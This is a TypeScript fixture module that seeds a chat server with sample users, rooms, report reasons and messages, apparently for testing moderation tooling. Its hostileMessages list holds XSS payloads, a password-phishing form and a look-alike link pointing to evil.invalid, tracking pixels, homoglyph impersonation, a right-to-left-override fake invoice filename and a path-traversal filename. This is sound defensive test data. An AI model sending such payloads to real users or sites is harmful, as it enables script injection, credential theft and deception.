/** Names and texts of sample data. */
import type { JsonObject } from '../../../shared/api/common.ts';
import { insertRegistrationToken } from '../../identity/registration/registration-store.ts';
import type { Database } from '../../platform/database/schema.ts';

type Person = { localpart: string; displayName: string };

/** Users who get reported. */
export const troublemakers: Person[] = [
  { localpart: 'mallory', displayName: 'Mallory' },
  // Two Cyrillic letters make this name look like another user's.
  { localpart: 'trudy', displayName: 'Adа Lоvelace' },
];

export const regulars: Person[] = [
  { localpart: 'ada', displayName: 'Ada Lovelace' },
  { localpart: 'bram', displayName: 'Bram de Vries' },
  { localpart: 'chika', displayName: 'Chika Okafor' },
  { localpart: 'dmitri', displayName: 'Дмитрий' },
  { localpart: 'elena', displayName: 'Elena Marín' },
  { localpart: 'farid', displayName: 'فريد' },
  { localpart: 'grace', displayName: 'Grace' },
  { localpart: 'hugo', displayName: 'Hugo 🚲' },
  { localpart: 'ines', displayName: 'Inês' },
  { localpart: 'jun', displayName: '純' },
];

export const people: Person[] = [...regulars, ...troublemakers];

export type SampleRoom = {
  /** Local part of the alias; undefined for a room without one. */
  alias?: string;
  name?: string;
  topic?: string;
};

export const sampleRooms: SampleRoom[] = [
  { alias: 'lobby', name: 'Lobby', topic: 'Say hello. Be kind.' },
  { alias: 'help', name: 'Help desk', topic: 'Ask anything about this server' },
  { alias: 'off-topic', name: 'Off topic' },
  { alias: 'marketplace', name: 'Marketplace', topic: 'Bicycles, books, spare keyboards' },
  { alias: 'photography', name: 'Photography' },
  { alias: 'gaming', name: 'Gaming — no spoilers' },
  { alias: 'arabic', name: 'غرفة اللغة العربية' },
  // One without a name or an alias: lists have to cope.
  {},
];

/** Reasons of reports; some have none. */
export const reasons: (string | null)[] = [
  'Spam',
  'This is the third time today.',
  'Threatens another member',
  'Pretends to be Ada. Look closely at the name.',
  'The link goes somewhere else than it says',
  'Rude',
  'Please remove this before the children see it',
  'My screen reader crashed on this message',
  'Es ist Werbung, und nicht zum ersten Mal.\nBitte sperren.',
  'محتوى مسيء',
  '<b>Look</b> & <script>alert(1)</script> at this',
  'Off topic',
  '',
  null,
];

const day = 24 * 60 * 60 * 1000;

/** Adds registration tokens in every state. */
export async function addTokens({ db }: { db: Database }, now: number): Promise<void> {
  const tokens = [
    { token: 'summer-school', usesAllowed: 30, expiryTime: now + 40 * day },
    { token: 'board-members', usesAllowed: null, expiryTime: null },
    { token: 'closed-for-now', usesAllowed: 0, expiryTime: null },
    { token: 'open-day', usesAllowed: 100, expiryTime: now - 3 * day },
  ];
  for (const token of tokens) await insertRegistrationToken(db, token);
}

export const text = (body: string): JsonObject => ({ msgtype: 'm.text', body });

export const formatted = (body: string, formattedBody: string): JsonObject => ({
  msgtype: 'm.text',
  body,
  format: 'org.matrix.custom.html',
  formatted_body: formattedBody,
});

const emote = (body: string): JsonObject => ({ msgtype: 'm.emote', body });

const sentences = [
  'Good morning, everyone.',
  'Has anyone seen the notes from last week?',
  'The tram was late again, I will be ten minutes behind.',
  'That worked, thank you!',
  'I can bring the projector on Thursday.',
  'Which version are you on?',
  'Try turning encryption off for that room and on again… no, wait, you can’t.',
  'Photos from the walk are up.',
  'I disagree, but I see your point.',
  'Selling a blue touring bike, 54 cm frame, barely used.',
  'Is the server slow for you, too?',
  'It is my turn to bring cake.',
  'We could meet at seven instead.',
  'Please read the pinned message first.',
  'The link in the topic is dead.',
  'Who moved the meeting?',
  'Happy birthday, Inês! 🎉',
  'Thanks for the quick answer.',
  'I will be away until Monday.',
  'The new headphones are surprisingly good.',
  'Here is what I tried:\n1. restarted\n2. cleared the cache\n3. gave up',
  'Спасибо за помощь!',
  'شكرا جزيلا',
  '明日の集まりは何時ですか？',
];

/** Ordinary messages, plain and formatted. */
export const ordinaryMessages: JsonObject[] = [
  ...sentences.map(text),
  formatted('Remember: **no** spoilers.', 'Remember: <strong>no</strong> spoilers.'),
  formatted(
    'Config that works for me: `port: 8008`',
    '<p>Config that works for me:</p><pre><code class="language-yaml">port: 8008\n</code></pre>',
  ),
  formatted('> It is broken.\n\nSame here.', '<blockquote>It is broken.</blockquote><p>Same here.</p>'),
  formatted(
    '* milk\n* bread\n* a new keyboard',
    '<ul><li>milk</li><li>bread</li><li>a <em>new</em> keyboard</li></ul>',
  ),
  formatted(
    'The guide is at https://example.org/guide',
    'The guide is at <a href="https://example.org/guide">example.org/guide</a>',
  ),
  emote('waves'),
  emote('is looking for the coffee'),
];

const nested = (depth: number): unknown =>
  Array.from({ length: depth }).reduce((inner) => ({ deeper: inner }), 'the bottom');

/** Messages that try to run code, load trackers, deceive or exhaust. Their URLs don't exist. */
export const hostileMessages: JsonObject[] = [
  formatted('Free prize!', '<script>document.title = "owned"</script><b>Free prize!</b>'),
  formatted(
    'Look at this',
    '<img src="https://tracker.invalid/pixel.gif" onerror="document.title=\'owned\'">Look at this',
  ),
  formatted('Click me', '<a href="javascript:document.title=\'owned\'">Click me</a>'),
  formatted(
    'Move over me',
    '<div onmouseover="document.title=\'owned\'" onclick="alert(1)">Move over me</div>',
  ),
  formatted(
    'A picture',
    '<svg onload="document.title=\'owned\'"><foreignObject><iframe src="https://evil.invalid"></iframe></foreignObject></svg>A picture',
  ),
  formatted(
    'Sign in again',
    '<form action="https://evil.invalid"><input name="password" type="password"><button>Sign in again</button></form>',
  ),
  formatted(
    'Everything is covered',
    '<div style="position:fixed;inset:0;background:url(https://tracker.invalid/bg.png);z-index:9999">Everything is covered</div>',
  ),
  formatted(
    'https://example.org/account',
    '<a href="https://example.org.evil.invalid/account">https://example.org/account</a>',
  ),
  formatted(
    'Meta',
    '<meta http-equiv="refresh" content="0;url=https://evil.invalid"><base href="https://evil.invalid/">Meta',
  ),
  formatted('Unclosed', '<table><td><style>*{display:none}</style><b><i><u><span><p>Unclosed'),
  // A right-to-left override disguises the file type.
  text('Please open invoice\u202Efdp.exe, it is urgent'),
  text('The admins have moved: write to @аdmin:lосаlhost from now on'),
  text('\u2067\u2066مرحبا\u2069 https://example.org/\u202Eevil\u202C \u2069'),
  text(`Z̷̢̛a̴͓͝l̶̫͘g̵̬̈ơ̸͎ ${'\u0336\u0315'.repeat(200)}`),
  text('spam '.repeat(12_000).trim()),
  { msgtype: 'm.text', body: 'Deep', 'org.example.deep': nested(100) },
  {
    msgtype: 'm.image',
    body: 'photo.png',
    url: 'https://tracker.invalid/photo.png',
    info: { mimetype: 'image/svg+xml' },
  },
  {
    msgtype: 'm.file',
    body: '../../etc/passwd',
    filename: '../../etc/passwd',
    url: 'mxc://localhost/../../secrets',
  },
  { msgtype: 'm.custom.unknown', body: 'A message of an unknown type' },
  text('You are all idiots and I hope this server burns down.'),
  text('Buy followers now!!! https://spam.invalid/?id=4711 100% legit'),
  text('I know where you live, Grace.'),
];

/** Reproducible: the same sample server each time. */
export type Random = {
  /** At least 0, below 1. */
  next(): number;
  pick<Item>(items: readonly Item[]): Item;
};

/** Mulberry32. */
export function seededRandom(seed: number): Random {
  let state = seed;
  const next = () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
  const pick = <Item>(items: readonly Item[]): Item => {
    const item = items[Math.floor(next() * items.length)];
    if (item === undefined) throw new Error('nothing to pick from');
    return item;
  };
  return { next, pick };
}
